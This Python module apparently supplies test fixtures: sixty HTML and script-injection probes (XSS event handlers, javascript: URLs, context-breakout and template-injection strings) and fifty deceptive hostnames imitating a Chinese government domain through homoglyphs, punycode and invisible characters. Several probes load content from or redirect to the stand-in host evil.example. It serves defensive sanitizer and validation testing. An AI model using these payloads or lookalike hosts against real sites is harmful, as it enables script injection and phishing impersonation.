"""Sixty texts that try to become markup, and fifty host names that try to be taken for another.

Each probe calls ``__x`` with its own number when a browser runs it, or asks for something from ``evil.example``.
"""

from __future__ import annotations

from collections.abc import Callable

_MADE: tuple[Callable[[int], str], ...] = (
    lambda n: f"<script>__x({n})</script>",
    lambda n: f"<ScRiPt>__x({n})</sCrIpT>",
    lambda n: f"<script/x>__x({n})</script >",
    lambda n: f"<scr<script>ipt>__x({n})</scr</script>ipt>",
    lambda _: "<script src=//evil.example/s.js></script>",
    lambda n: f"<script src='data:text/javascript,__x({n})'></script>",
    lambda n: f"<img src=x onerror=__x({n})>",
    lambda n: f'<img src="x" onerror="__x({n})" style=display:block>',
    lambda n: f"<img/src=x/onerror=__x({n})>",
    lambda n: f"<IMG SRC=x ONERROR=&#95;&#95;x({n})>",
    lambda _: "<img src=http://evil.example/i.png>",
    lambda _: "<img srcset='http://evil.example/2.png 2x'>",
    lambda n: f"<svg onload=__x({n})>",
    lambda n: f"<svg><script>__x({n})</script></svg>",
    lambda n: f"<svg><animate onbegin=__x({n}) attributeName=x dur=1s>",
    lambda _: "<svg><use href=http://evil.example/u.svg#a></svg>",
    lambda n: f"<math><mtext></form><form><mglyph><style></math><img src onerror=__x({n})>",
    lambda n: f"<body onload=__x({n})>",
    lambda n: f"<input autofocus onfocus=__x({n})>",
    lambda n: f"<select autofocus onfocus=__x({n})><option>1</select>",
    lambda n: f"<textarea autofocus onfocus=__x({n})>x",
    lambda n: f"<video src=x onerror=__x({n})></video>",
    lambda n: f"<audio src=x onerror=__x({n})>",
    lambda n: f"<details open ontoggle=__x({n})>x</details>",
    lambda n: f"<marquee onstart=__x({n})>x</marquee>",
    lambda n: f"<b onmouseover=__x({n}) tabindex=0 onfocus=__x({n})>x</b>",
    lambda n: f"<iframe srcdoc='<script>parent.__x({n})</script>'></iframe>",
    lambda n: f"<iframe src=javascript:parent.__x({n})></iframe>",
    lambda _: "<iframe src=http://evil.example/></iframe>",
    lambda n: f"<object data='javascript:__x({n})'></object>",
    lambda _: "<object data=http://evil.example/o></object>",
    lambda _: "<embed src=http://evil.example/e>",
    lambda _: "<link rel=stylesheet href=//evil.example/s.css>",
    lambda _: "<link rel=prefetch href=//evil.example/p>",
    lambda _: "<link rel=dns-prefetch href=//evil.example>",
    lambda _: "<style>@import '//evil.example/i.css';</style>",
    lambda _: "<style>*{background:url(//evil.example/b.png)}</style>",
    lambda _: "<base href=http://evil.example/>",
    lambda _: "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    lambda n: f"<meta http-equiv=refresh content='0;url=data:text/html,<script>__x({n})</script>'>",
    lambda n: f"<a href=javascript:__x({n})>官网</a>",
    lambda _: "<a href=http://evil.example/live>官网</a>",
    lambda _: "<a href=//evil.example ping=//evil.example/ping>官网</a>",
    lambda _: "<form action=http://evil.example/take><button>领取</button></form>",
    lambda n: f'"><script>__x({n})</script>',
    lambda n: f"'><img src=x onerror=__x({n})>",
    lambda n: f'" autofocus onfocus=__x({n}) x="',
    lambda n: f"' autofocus onfocus=__x({n}) x='",
    lambda n: f"</textarea><script>__x({n})</script>",
    lambda n: f"</title><script>__x({n})</script>",
    lambda n: f"</option></select><img src=x onerror=__x({n})>",
    lambda n: f"--><script>__x({n})</script><!--",
    lambda n: f"]]><script>__x({n})</script>",
    lambda n: f"</script><script>__x({n})</script>",
    lambda _: "{{ 7*7 }}{% raw %}{{ ''.__class__ }}",
    lambda n: f"${{__x({n})}}#{{__x({n})}}<%= __x({n}) %>",
    lambda n: f"<div hx-get=//evil.example/h hx-trigger=load hx-on:load=__x({n})></div>",
    lambda n: f"javascript:__x({n})",
    lambda n: f"data:text/html,<script>__x({n})</script>",
    lambda n: f"\u202e)>{n}(x__=daolno gvs<\u202c\x1b]0;__x\x07\x00\u2028alert\ufeff",
)

PROBES_APART = tuple(made(n) for n, made in enumerate(_MADE, 1))

HOSTS = (
    "www.hubei.gov.cn.evil.example", "hubei.gov.cn-login.example", "www-hubei-gov-cn.example", "hubeigov.cn.example",
    "gov.cn.example", "www.gov.cn.x.y.z.example", "hubei-gov.cn", "hube1.gov.cn.example", "hubei.gοv.cn",
    "hubеi.gov.cn.example", "һubei.example", "hubeі.example", "hübei.example", "hubeí.example", "ĥubei.example",
    "ｈｕｂｅｉ．ｇｏｖ．ｃｎ", "hubei。gov。cn", "hubei．gov．cn", "hubei·gov·cn.example", "湖北省人民政府.example",
    "湖北省人民政府.政务", "www.湖北.公益", "湖北gov.example", "湖北ロ岸.example", "湖北кадр.example",
    "москва.рф", "аррӏе.example", "ԁoc.example", "ɡov.example", "gоv.сn", "xn--fiq228c.example",
    "xn--hubi-gov-e8g.example", "xn--zzzzz-.com", "xn--a.example", "xn--80ak6aa92e.example",
    "gov.cn\u2044x.example", "gov.cn／x.example", "gov.cn？x.example", "gov.cn＃x.example", "gov.cn：80.example",
    "gov\u200b.cn.example", "gov\u00ad.cn.example", "gov.cn\u202e.example", "\u202enc.vog.iebuh\u202c.example",
    "gov\u2060.cn.example", "gov\ufe0f.cn.example", "a" * 63 + ".example", ".".join(["a"] * 120), "192.0.2.1", "0x7f.1",
)  # fmt: skip
"""W4: what stands in certificates, reports and lists, whether it is a host or not."""
